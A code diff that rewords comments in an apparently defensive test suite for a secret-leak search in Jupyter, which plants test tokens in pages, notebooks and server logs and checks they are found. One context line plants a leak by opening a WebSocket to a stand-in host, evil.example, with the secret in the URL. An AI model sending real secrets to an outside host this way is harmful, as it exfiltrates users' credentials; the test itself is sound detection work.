@@ -11,19 +11,19 @@ import type { IFinding, ISecret } from '../../leaks/search';
 import { findSecrets, inWords } from '../../leaks/search';
 import type { Place } from '../../leaks/text';
 
-/** A leak that is planted. */
+/** A planted leak. */
 interface ILeak<Target> {
   readonly name: string;
   readonly plant: (target: Target, secret: string) => Promise<unknown>;
 
-  /** All places in which it must be found, and no other. */
+  /** The only places in which the search must find it. */
   readonly found: readonly Place[];
 
-  /** Whether it is the page's own token; yes unless said otherwise. */
+  /** Whether it is the page's own token. Default: yes. */
   readonly isOfPage?: boolean;
 }
 
-/** Leaks of a script in the page, which leave nothing on the server. */
+/** Leaks in the page, which leave nothing on the server. */
 const IN_PAGE: readonly ILeak<Page>[] = [
   inPage('text', 'document', secret => document.body.append(secret)),
   inPage('a comment', 'document', secret =>
@@ -182,7 +182,7 @@ const IN_PAGE: readonly ILeak<Page>[] = [
   inPage('the address of a WebSocket', 'URL', secret => {
     new WebSocket(`ws://evil.example/?${encodeURIComponent(secret)}`);
   }),
-  // To the page's own server, which writes down the URL of a request that fails.
+  // To the page's own server, which logs the URL of a failed request.
   inPage('the address of a request that fails', ['URL', 'log'], secret =>
     fetch(`/api/contents/nothing-here?note=${encodeURIComponent(secret)}`)
   ),
@@ -220,7 +220,7 @@ const ON_SERVER: readonly ILeak<JupyterPage>[] = [
     name: 'a notebook',
     found: ['notebook'],
     plant: async (jupyter, secret) => {
-      // Its first content is its first checkpoint.
+      // The first content is also the first checkpoint.
       await saveNotebook(jupyter, 'planted.ipynb', '');
       await saveNotebook(jupyter, 'planted.ipynb', secret);
     }
@@ -268,7 +268,7 @@ const ON_HUB: readonly ILeak<JupyterPage>[] = [
   }
 ];
 
-/** The forms in which a secret is written, made by the browser's own means. */
+/** The forms of a secret, created by the browser's own functions. */
 const FORMS: readonly [form: string, write: (secret: string) => string][] = [
   ['as it is', secret => secret],
   ['as it is', secret => secret.toUpperCase()],
@@ -360,16 +360,16 @@ test(
     };
     await plant(jupyter, ON_SERVER);
     if (user) {
-      // What a page leaks is found by the same search with and without a hub.
+      // Leaks in the page need no hub.
       await plant(jupyter, ON_HUB);
     } else {
       await plant(page, IN_PAGE);
     }
-    // What was reported or is being written may come late.
+    // Reports and files may be late.
     await expect(async () => {
       const findings = await findAll(secrets);
       expect(placesOf(findings)).toEqual(expected);
-      // The words on a leak do not leak it.
+      // The description of a leak does not contain the secret.
       const words = findings.map(inWords).join('\n');
       const text = { place: 'document', where: '', text: words } as const;
       expect(findSecrets([text], secrets, () => false)).toEqual([]);
@@ -408,7 +408,7 @@ test(
   }
 );
 
-/** A leak that a script in the page plants. */
+/** A leak by a script in the page. */
 function inPage(
   name: string,
   found: Place | readonly Place[],
@@ -435,7 +435,7 @@ function saveNotebook(
   });
 }
 
-/** In which places each secret was found, by its name. */
+/** The places in which each secret was found, by its name. */
 function placesOf(findings: readonly IFinding[]): Record<string, string[]> {
   const places: Record<string, string[]> = {};
   for (const { place, secret } of findings) {
@@ -448,8 +448,7 @@ function placesOf(findings: readonly IFinding[]): Record<string, string[]> {
 }
 
 /**
- * A token that looks otherwise in each form, and has no part in common with
- * another one.
+ * A token that looks different in each form, and shares no part with another.
  */
 function newSecret(): string {
   return Array.from(
